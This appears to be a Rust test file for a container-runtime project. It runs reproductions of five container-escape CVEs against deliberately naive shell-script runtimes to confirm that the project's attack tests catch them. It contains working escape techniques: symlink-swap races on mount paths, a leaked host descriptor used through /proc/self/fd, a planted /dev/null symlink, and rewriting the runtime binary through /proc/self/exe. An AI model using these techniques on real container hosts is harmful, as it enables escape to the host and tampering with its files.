//! The attacks of `oci_attacks` and `oci_races` against runtimes that are naive on purpose:
//! each succeeds, so the tests there would notice. A naive runtime here is a shell script that
//! does what the broken ones did, in mount namespaces of its own.

use crate::oci_attacks::give_many;
use crate::oci_support::{Bundle, Racer};
use crate::support::{Done, eventually};
use rustix::fs::{CWD, RenameFlags, renameat_with};
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::PathBuf;
use std::process::Command;

/// A file of the host that no container may reach.
struct Outside {
    bundle: Bundle,
    canary: PathBuf,
}

impl Outside {
    fn new() -> Self {
        let bundle = Bundle::new();
        let canary = bundle.path("canary");
        fs::create_dir_all(canary.join("below")).unwrap();
        fs::write(canary.join("secret"), "outside\n").unwrap();
        Self { bundle, canary }
    }

    /// A place in the root that is a directory and a way out by turns.
    fn race(&self) -> Racer {
        let volume = self.bundle.rootfs("vol");
        fs::create_dir_all(volume.join("place/below")).unwrap();
        symlink(&self.canary, volume.join("link")).unwrap();
        let (place, link) = (volume.join("place"), volume.join("link"));
        Racer::new(move || {
            renameat_with(CWD, &place, CWD, &link, RenameFlags::EXCHANGE).unwrap();
        })
    }

    /// Runs a naive runtime's script, with `ROOT` and `CANARY`.
    fn naive(&self, script: &str) -> Done {
        let mut command = Command::new("unshare");
        command
            .args(["--mount", "sh", "-c", script])
            .env("ROOT", self.bundle.rootfs(""))
            .env("CANARY", &self.canary);
        Done::of(command)
    }
}

/// The check that a naive runtime makes: where the path leads to now. `check` is true inside.
const CHECK: &str = "ROOT=$(realpath $ROOT); \
    check() { case $(realpath $1) in $ROOT/*) true;; *) false;; esac; }; ";

/// CVE-2021-30465: the place is checked, and then mounted on by its path.
#[test]
fn a_checked_place_is_mounted_on_by_path() {
    let outside = Outside::new();
    let racer = outside.race();
    let script = "n=0; while [ $n -lt 20000 ]; do n=$((n + 1)); check $ROOT/vol/place || continue; \
        mount -t tmpfs naive $ROOT/vol/place || continue; \
        grep -q \" $CANARY \" /proc/self/mountinfo && { echo escaped; exit; }; done";
    let done = outside.naive(&format!("{CHECK}{script}"));
    drop(racer);
    assert_eq!(done.stdout, "escaped\n", "{}", done.stderr);
}

/// CVE-2024-45310: the parent of a missing place is checked, and the rest made by its path.
#[test]
fn missing_places_are_made_by_path() {
    let outside = Outside::new();
    let racer = outside.race();
    let script = "n=0; while [ $n -lt 20000 ]; do n=$((n + 1)); check $ROOT/vol/place || continue; \
        mkdir -p $ROOT/vol/place/below/made$n; test -e $CANARY/below/made$n && { echo escaped; exit; }; done";
    let done = outside.naive(&format!("{CHECK}{script}"));
    drop(racer);
    assert_eq!(done.stdout, "escaped\n", "{}", done.stderr);
}

/// CVE-2025-31133: a path is hidden by binding the root's own `/dev/null` over it.
#[test]
fn the_null_device_of_the_image_is_believed() {
    let outside = Outside::new();
    fs::create_dir_all(outside.bundle.rootfs("dev")).unwrap();
    symlink(outside.canary.join("secret"), outside.bundle.rootfs("dev/null")).unwrap();
    fs::write(outside.bundle.rootfs("hidden"), "").unwrap();
    let script = "mount --bind $ROOT/dev/null $ROOT/hidden && chroot $ROOT /bin/sh -c 'echo taken > /hidden'";
    let done = outside.naive(script);
    assert_eq!(done.code, 0, "{}", done.stderr);
    let written = fs::read_to_string(outside.canary.join("secret")).unwrap();
    assert_eq!(written, "taken\n");
}

/// CVE-2024-21626: a descriptor of the host is open, and the working directory leads through it.
#[test]
fn the_working_directory_leads_through_a_descriptor() {
    let outside = Outside::new();
    let script = "mount -t proc proc $ROOT/proc && exec 7< $CANARY/below && \
        exec chroot $ROOT /bin/sh -c 'cd /proc/self/fd/7 && exec cat ../secret'";
    let done = outside.naive(script);
    assert_eq!(done.stdout, "outside\n", "{}", done.stderr);
}

/// CVE-2019-5736: the runtime enters the container as itself, executes itself there by way of
/// `/proc/self/exe`, and is rewritten as soon as it has ended, which it does when the attacker
/// has a descriptor of it.
#[test]
fn the_runtime_enters_as_itself_and_is_rewritten() {
    let mut bundle = Bundle::new();
    let naive = bundle.path("busybox-naive");
    fs::copy("/bin/busybox", &naive).unwrap();
    give_many(&mut bundle);
    // busybox heeds its first argument under names that begin so.
    symlink("/proc/self/exe", bundle.rootfs("bin/busybox-evil")).unwrap();
    let evil = bundle.rootfs("bin/evil");
    fs::write(
        &evil,
        "#!/bin/busybox-evil sh\ni=0; until [ -e /tmp/has ] || [ $i = 1000000 ]; do i=$((i + 1)); done\n",
    )
    .unwrap();
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o755)).unwrap();
    bundle.sh("echo ready > /tmp/ready; while :; do for p in /proc/[0-9]*; do \
         case $(readlink $p/exe) in *busybox-naive*) exec 9< $p/exe || continue; echo > /tmp/has; \
         until echo evil > /proc/self/fd/9; do :; done; exit;; esac; done; done 2>/dev/null");
    bundle.start();
    eventually("the attacker works", || bundle.rootfs("tmp/ready").exists());
    let pid = bundle.state(bundle.id()).unwrap()["pid"].to_string();
    let mut command = Command::new(&naive);
    command.args(["nsenter", "-t", &pid, "-m", "-p", "--", "/bin/evil"]);
    command.output().unwrap();
    eventually("it was rewritten", || fs::read(&naive).unwrap() == b"evil\n");
}
